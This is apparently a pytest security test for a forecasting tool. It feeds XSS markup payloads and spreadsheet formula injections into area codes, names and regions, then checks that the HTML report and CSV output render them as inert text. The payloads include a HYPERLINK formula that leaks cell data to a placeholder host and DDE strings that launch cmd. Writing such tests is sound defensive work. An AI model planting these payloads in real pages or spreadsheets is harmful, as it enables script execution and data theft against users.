"""Hostile area codes, names and regions (markup, attribute breakers, spreadsheet formulas) go
through train and forecast, and every published output shows them as inert text: the HTML report
(parsed, and in a real browser, where no payload's script runs) and forecast.csv (every text cell
that a spreadsheet would read as a formula is guarded)."""

from __future__ import annotations

import csv
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from tests.conftest import train_in_process
from tests.e2e.report_experiment import CHROMIUM, CHROMIUM_FLAGS, CONFIG
from workbench.data.synthetic.england import generate_england

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP; kept here so the test runs against any version

CODES = {  # original code -> hostile code; each payload sets a window flag if it ever runs
    "E06000001": 'E06"><svg onload="window.__xss_code=1">',
    "E06000002": "E06'><img src=x onerror=window.__xss_img=1>",
}
NAMES = {
    "E06000003": "<script>window.__xss_name=1</script>",
    "E06000004": '" onmouseover="window.__xss_attr=1" x="',
    "E06000005": '=HYPERLINK("http://example.invalid/?leak="&A1,"y")',
    "E06000006": "+1+cmd|' /C calc'!A0",
    "E06000007": "@SUM(1+1)*cmd|' /C calc'!A0",
    "E06000008": "-2+3+cmd|' /C calc'!A0",
}
REGION = ("North East", "<b onmouseover=window.__xss_region=1>North East</b>")
FLAGS = ["__xss_code", "__xss_img", "__xss_name", "__xss_attr", "__xss_region"]
SAFE_ID = re.compile(r"^[A-Za-z0-9_-]+$")


def hostile_panel() -> object:
    frame = generate_england(seed=11, start="2018Q2", end="2023Q2")
    for code, name in NAMES.items():
        frame.loc[frame["area_code"] == code, "area_name"] = name
    frame["region"] = frame["region"].replace({REGION[0]: REGION[1]})
    frame["area_code"] = frame["area_code"].replace(CODES)
    return frame.assign(period=frame["period"].astype(str))


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory, _empty_tracking_db: Path) -> Path:
    """Train and forecast once on the hostile panel; the folder of published outputs."""
    folder = tmp_path_factory.mktemp("hostile")
    hostile_panel().to_csv(folder / "panel.csv", index=False)
    config = {
        **CONFIG,
        "name": "hostile_report",
        "data": {
            "file": {
                "path": "panel.csv",
                "frequency": "quarter",
                "area_code_pattern": "^.+$",
                "columns": {
                    "area": "area_code",
                    "period": "period",
                    "area_name": "area_name",
                    "targets": ["owed_duty"],
                    "covariates": {
                        "possession_claims_rate": {"column": "possession_claims_rate", "publication_lag": 1}
                    },
                    "static": ["region", "urban_rural", "deprivation_score"],
                    "groups": ["region", "urban_rural"],
                },
            }
        },
    }
    (folder / "hostile.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
    train_in_process(folder, folder / "hostile.yaml", "train", "forecast", empty_db=_empty_tracking_db)
    (out,) = (folder / "outputs" / "forecasts" / "hostile_report").iterdir()
    return out


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_hostile_values_are_text_in_the_report(published: Path) -> None:
    html = (published / "report.html").read_text()
    parser = _Tags()
    parser.feed(html)
    assert [t for t, _ in parser.tags].count("script") == 1  # the report's own filter script, nothing else
    assert not any(t in ("img", "b") for t, _ in parser.tags)
    handlers = [(t, a) for t, attrs in parser.tags for a in attrs if a.startswith("on")]
    assert handlers == []
    ids = [attrs["id"] for _, attrs in parser.tags if attrs.get("id")]
    assert ids and all(SAFE_ID.match(i) for i in ids), [i for i in ids if not SAFE_ID.match(i)]
    assert len(ids) == len(set(ids))
    links = {attrs["href"][1:] for t, attrs in parser.tags if t == "a" and attrs.get("href", "").startswith("#area-")}
    assert links and links <= set(ids)  # every link to an area still finds its section
    assert "&lt;script&gt;window.__xss_name=1&lt;/script&gt;" in html


def test_hostile_values_are_guarded_in_the_csv(published: Path) -> None:
    with (published / "forecast.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    by_code = {r["area_code"]: r for r in rows}
    for code, name in NAMES.items():
        row = by_code[code]
        if name.startswith(FORMULA_START):
            assert row["area_name"] == "'" + name
            assert row["drivers"].startswith("'" + name)
        else:
            assert row["area_name"] == name
    formulas = [
        (r["area_code"], k, v)
        for r in rows
        for k, v in r.items()
        if v.startswith(FORMULA_START) and not re.fullmatch(r"[+-][\d,.]+%?", v)
    ]
    assert formulas == []
    changes = [r["change_vs_last_year"] for r in rows]
    assert any(c.startswith("-") for c in changes) and any(c.startswith("+") for c in changes)  # numbers stay numbers


@pytest.mark.slow
def test_no_payload_runs_in_a_real_browser(published: Path) -> None:
    if CHROMIUM is None:
        if os.environ.get("CI"):
            pytest.fail("Chromium is not installed: .ci/run installs it (apt-get install chromium)")
        pytest.skip("Chromium is not installed here; CI installs it and runs this test")
    from playwright.sync_api import sync_playwright

    errors: list[str] = []
    dialogs: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto((published / "report.html").as_uri())
        page.wait_for_load_state("load")
        script = f"{FLAGS!r}.filter(function (k) {{ return window[k] !== undefined; }})"
        assert page.evaluate(script) == [], "a payload ran when the report loaded"
        page.fill("#filter-text", "__xss")  # the rows whose code or name carries a payload
        links = page.locator("#area-table tbody tr:not([hidden]) td a").all()
        assert len(links) == 4  # in the first period: the two hostile codes and the two markup names
        for link in links:
            link.hover()
            link.click()  # opens the area's section: its charts carry the code in their ids
            assert page.locator("details.area[open]").count() >= 1
        for summary in page.locator("details.area[open] summary").all():
            summary.hover()
        page.fill("#filter-text", "")
        for option in page.locator("#filter-region option").all_inner_texts():
            page.select_option("#filter-region", label=option)
        page.wait_for_timeout(200)
        ran = page.evaluate(script)
        shown = page.locator("details.area summary").all_inner_texts()
        browser.close()
    assert ran == []
    assert dialogs == [] and errors == []
    assert any("<script>window.__xss_name=1</script>" in s for s in shown)  # shown as text, not run
